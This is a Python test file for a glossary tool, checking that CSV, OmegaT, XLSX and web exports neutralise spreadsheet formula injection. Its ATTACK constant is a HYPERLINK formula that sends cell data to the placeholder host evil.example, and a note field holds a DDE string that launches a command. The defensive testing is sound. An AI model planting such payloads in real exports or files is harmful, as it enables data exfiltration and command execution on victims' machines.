"""Issue 11 #1: a value starting with = + - @ never becomes a live formula in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from glossary.build import build_database
from glossary.suggestions import SuggestionStore
from tests.hardening.helpers import run_glossary, text
from web import create_app

ATTACK = '=HYPERLINK("https://evil.example/?"&A2&B2,"Click for the source")'


def accepted_attack(terms: Path, tmp_path: Path, en: str = "formula test") -> Path:
    """The attack arrives as a public suggestion that an editor accepts."""
    store = tmp_path / "suggestions.db"
    with SuggestionStore(store) as suggestions:
        number = suggestions.add(
            {"kind": "new", "zh": "测试公式", "en": en, "domain": "economy",
             "definition": ATTACK, "note": "@SUM(1+1)*cmd|' /C calc'!A0"}
        )  # fmt: skip
    result = run_glossary(
        "--terms", terms, "suggestions", "--suggestions", store, "accept", str(number)
    )
    assert result.returncode == 0, text(result)
    db = tmp_path / "glossary.db"
    build_database(terms, db, cedict=False)
    return db


def exported(terms: Path, tmp_path: Path, name: str, en: str = "formula test") -> Path:
    """The accepted attack, exported by the CLI in one format."""
    db = accepted_attack(terms, tmp_path, en)
    out = tmp_path / f"out.{name}"
    result = run_glossary("--terms", terms, "--db", db, "export", "--format", name, "-o", out)
    assert result.returncode == 0, text(result)
    return out


def test_the_csv_export_writes_formulas_as_text(mini_terms: Path, tmp_path: Path) -> None:
    out = exported(mini_terms, tmp_path, "csv")
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig"))))
    row = next(r for r in rows if r["zh-CN"] == "测试公式")
    assert row["definition"] == "'" + ATTACK
    assert row["note"].startswith("'@")
    for value in (v for r in rows for v in r.values() if v):
        assert not value.startswith(("=", "+", "-", "@")), value


def test_a_csv_export_imports_back_unchanged(mini_terms: Path, tmp_path: Path) -> None:
    out = exported(mini_terms, tmp_path, "csv")
    result = run_glossary("--terms", mini_terms, "import", out, "--dry-run")
    assert result.returncode == 0, text(result)
    assert "0 new, 0 updated, 4 unchanged" in result.stdout


def test_the_omegat_export_writes_formulas_as_text(mini_terms: Path, tmp_path: Path) -> None:
    """The OmegaT glossary is tab-separated text a spreadsheet opens too."""
    out = exported(mini_terms, tmp_path, "omegat", en=ATTACK)
    cells = [cell for line in out.read_text("utf-8").splitlines()[1:] for cell in line.split("\t")]
    assert "'" + ATTACK in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    result = run_glossary("--terms", mini_terms, "import", out, "--format", "omegat", "--dry-run")
    assert result.returncode == 0, text(result)
    assert "0 new, 0 updated, 4 unchanged" in result.stdout


def test_xlsx_export_has_string_cells_only(mini_terms: Path, tmp_path: Path) -> None:
    out = exported(mini_terms, tmp_path, "xlsx")
    with zipfile.ZipFile(out) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    book = load_workbook(out)
    cells = [c for row in book.active.iter_rows() for c in row if c.value]  # type: ignore[union-attr]
    assert any(c.value == ATTACK for c in cells)
    assert all(c.data_type == "s" for c in cells)


def test_the_site_export_neutralises_formulas(mini_terms: Path, tmp_path: Path) -> None:
    db = accepted_attack(mini_terms, tmp_path)
    app = create_app({"TESTING": True, "WTF_CSRF_ENABLED": False, "GLOSSARY_TERMS": str(mini_terms),
                      "GLOSSARY_DB": str(db), "SUGGESTIONS_DB": str(tmp_path / "s.db"),
                      "SECRET_KEY": "test"})  # fmt: skip
    client = app.test_client()
    answer = client.get("/export?format=csv")  # the download URL
    assert answer.status_code == 200
    assert "'" + ATTACK.replace('"', '""') in answer.get_data(as_text=True)
    answer = client.get("/export?format=xlsx")
    with zipfile.ZipFile(io.BytesIO(answer.data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_validate_warns_about_formula_like_values(mini_terms: Path, tmp_path: Path) -> None:
    accepted_attack(mini_terms, tmp_path)
    result = run_glossary("--terms", mini_terms, "validate", "--no-cedict")
    assert result.returncode == 0, text(result)
    assert "definition: starts with '='" in result.stderr
    assert "note: starts with '@'" in result.stderr
    assert "formula-test.toml:" in result.stderr


def test_json_export_keeps_the_value_as_is(mini_terms: Path, tmp_path: Path) -> None:
    db = accepted_attack(mini_terms, tmp_path)
    with sqlite3.connect(db) as conn:
        entry = json.loads(
            conn.execute("select entry from concepts where id = 'formula-test'").fetchone()[0]
        )
    conn.close()
    assert entry["definition"] == ATTACK
